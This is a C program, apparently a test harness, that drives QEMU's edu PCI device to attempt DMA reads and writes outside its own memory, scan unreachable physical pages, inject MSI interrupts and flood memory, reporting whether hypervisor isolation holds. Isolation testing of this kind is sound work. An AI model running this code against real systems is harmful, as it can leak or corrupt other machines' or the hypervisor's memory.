/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A driver that wants more than its machine gives it: makes QEMU's edu device, which copies 4 KiB between itself and
 * any address, read and write what is not ours. Runs as root in the Service VM, whose memory has the machine's
 * addresses. Exit code 0: the device did what it was told and got nothing; 1: it got something; 2: usage, or no device.
 */
#include <dirent.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#define PAGE 4096ull
#define COUNT 64 /* bytes an attack moves */
#define FLOOD "FLOOD-"
#define EDU_SIZE 0x100000
#define EDU_BUFFER 0x40000ull
#define EDU_PATIENCE 60
#define MESSAGES 0xfee00000ull

enum { SOURCE = 0x80 / 8, DESTINATION = 0x88 / 8, BYTES = 0x90 / 8, COMMAND = 0x98 / 8 };
enum { GO = 1, TO_MEMORY = 2 };

static const char mark[17] = "DMA-HAS-BEEN-HERE";
static volatile uint64_t *edu;
static unsigned char *own; /* a page of ours */
static uint64_t own_at;

static void die(const char *what)
{
	perror(what);
	exit(2);
}

/* The machine's address of a page that is locked; the Service VM's is the same. */
static uint64_t address_of(void *page)
{
	uint64_t entry;
	int fd = open("/proc/self/pagemap", O_RDONLY);

	if (fd < 0 || pread(fd, &entry, 8, (off_t)((uintptr_t)page / PAGE * 8)) != 8 || !(entry >> 63))
		die("pagemap");
	close(fd);
	return (entry & ((1ull << 55) - 1)) * PAGE;
}

static int word_of(const char *device, const char *file)
{
	char path[512];
	unsigned int value = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/%s", device, file);
	f = fopen(path, "r");
	if (!f || fscanf(f, "%x", &value) != 1)
		value = 0;
	if (f)
		fclose(f);
	return (int)value;
}

/* Memory space and bus mastering on, its registers mapped. */
static void open_device(const char *device)
{
	unsigned char command[2] = { 0x06, 0 };
	char path[512];
	int fd;

	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/config", device);
	fd = open(path, O_RDWR);
	if (fd < 0 || pwrite(fd, command, 2, 4) != 2)
		die(path);
	close(fd);
	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/resource0", device);
	fd = open(path, O_RDWR);
	edu = mmap(NULL, EDU_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (edu == MAP_FAILED)
		die(path);
	close(fd);
	printf("edu is %s\n", device);
}

static void find_device(void)
{
	DIR *dir = opendir("/sys/bus/pci/devices");
	struct dirent *e;

	while (dir && !edu && (e = readdir(dir)))
		if (word_of(e->d_name, "vendor") == 0x1234 && word_of(e->d_name, "device") == 0x11e8)
			open_device(e->d_name);
	if (!edu) {
		fprintf(stderr, "dma: no edu device\n");
		exit(2);
	}
	closedir(dir);
}

static void copy(uint64_t from, uint64_t to, uint64_t size, uint64_t command)
{
	struct timespec pause = { .tv_nsec = 2000000 };
	time_t end = time(NULL) + EDU_PATIENCE;

	edu[SOURCE] = from;
	edu[DESTINATION] = to;
	edu[BYTES] = size;
	edu[COMMAND] = GO | command;
	while (edu[COMMAND] & GO) {
		if (time(NULL) > end) {
			fprintf(stderr, "dma: the device does not end\n");
			exit(2);
		}
		nanosleep(&pause, NULL);
	}
}

static void to_device(uint64_t from)
{
	copy(from, EDU_BUFFER, COUNT, 0);
}

static void from_device(uint64_t to)
{
	copy(EDU_BUFFER, to, COUNT, TO_MEMORY);
}

static void fill(const char *text, size_t size)
{
	for (size_t i = 0; i < COUNT; i++)
		own[i] = size ? (unsigned char)text[i % size] : 0;
}

static int is_all(unsigned char byte)
{
	for (size_t i = 0; i < COUNT; i++)
		if (own[i] != byte)
			return 0;
	return 1;
}

/* Between two places of our own page it works: what follows is refused, not broken. */
static void test_device(void)
{
	fill(mark, sizeof(mark));
	to_device(own_at);
	from_device(own_at + 2048);
	if (memcmp(own, own + 2048, COUNT)) {
		fprintf(stderr, "dma: the device does not copy our own memory\n");
		exit(2);
	}
}

/* Reads, then writes there. 1: what came back is neither nothing nor what the device had before. */
static int attack(uint64_t at)
{
	unsigned char before[COUNT];
	int got;

	fill(mark, sizeof(mark));
	memcpy(before, own, COUNT);
	to_device(own_at);
	to_device(at);
	from_device(own_at);
	got = memcmp(own, before, COUNT) && !is_all(0) && !is_all(0xff);
	fill(mark, sizeof(mark));
	to_device(own_at);
	from_device(at);
	printf("attacked 0x%" PRIx64 ": %s\n", at, got ? "GOT SOMETHING" : "got nothing");
	return got;
}

/* A page that our CPUs do not have reads as ones, whatever is written. */
static int is_closed(uint64_t at)
{
	static int fd = -1;
	volatile uint64_t *page;
	int closed;

	if (fd < 0)
		fd = open("/dev/mem", O_RDWR | O_SYNC);
	page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, (off_t)at);
	if (page == MAP_FAILED)
		return 0;
	closed = page[0] == ~0ull && page[255] == ~0ull && page[511] == ~0ull;
	if (closed) {
		page[0] = 0;
		closed = page[0] == ~0ull;
		page[0] = ~0ull;
	}
	munmap((void *)(uintptr_t)page, PAGE);
	return closed;
}

/* range FIRST LAST STEP: of the pages that are closed to us, the first, and from there one each STEP. */
static int attack_range(uint64_t first, uint64_t last, uint64_t step)
{
	uint64_t next = 0;
	int got = 0;

	for (uint64_t at = first & ~(PAGE - 1); at < last; at += PAGE) {
		if (!is_closed(at))
			next = 0;
		else if (at >= next) {
			got |= attack(at + 0x100);
			next = at + step;
		}
	}
	return got;
}

/* message FIRST LAST: interrupts of these vectors, mode fixed, for the CPU with APIC id 0. */
static int send_messages(uint32_t first, uint32_t last)
{
	for (uint32_t data = first; data <= last; data++) {
		memcpy(own, &data, sizeof(data));
		to_device(own_at);
		copy(EDU_BUFFER, MESSAGES, sizeof(data), TO_MEMORY);
	}
	printf("sent vectors 0x%x to 0x%x\n", first, last);
	return 0;
}

/* flood: writes a page of ours for ever, something else each time, so that whoever stops it stops it on its way. */
static _Noreturn void flood(void)
{
	unsigned char *to = own + PAGE;

	for (unsigned int i = 0; i < PAGE / COUNT; i++)
		snprintf((char *)own + i * COUNT, COUNT, FLOOD "%02u", i);
	copy(own_at, EDU_BUFFER, PAGE, 0);
	memset(to, 0, PAGE);
	printf("flooding 0x%" PRIx64 "\n", address_of(to));
	fflush(stdout);
	for (unsigned int i = 0;; i = (i + 1) % (PAGE / COUNT))
		copy(EDU_BUFFER + i * COUNT, address_of(to), COUNT, TO_MEMORY);
}

int main(int argc, char **argv)
{
	int got = 0;

	if (argc < 2) {
		fprintf(stderr, "usage: dma ADDRESS... | range FIRST LAST STEP | message FIRST LAST | flood\n");
		return 2;
	}
	own = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE,
		   MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
	if (own == MAP_FAILED)
		die("mmap");
	own_at = address_of(own);
	find_device();
	test_device();
	if (!strcmp(argv[1], "range") && argc == 5)
		return attack_range(strtoull(argv[2], NULL, 0), strtoull(argv[3], NULL, 0), strtoull(argv[4], NULL, 0));
	if (!strcmp(argv[1], "message") && argc == 4)
		return send_messages((uint32_t)strtoul(argv[2], NULL, 0), (uint32_t)strtoul(argv[3], NULL, 0));
	if (!strcmp(argv[1], "flood"))
		flood();
	for (int i = 1; i < argc; i++)
		got |= attack(strtoull(argv[i], NULL, 0));
	return got;
}
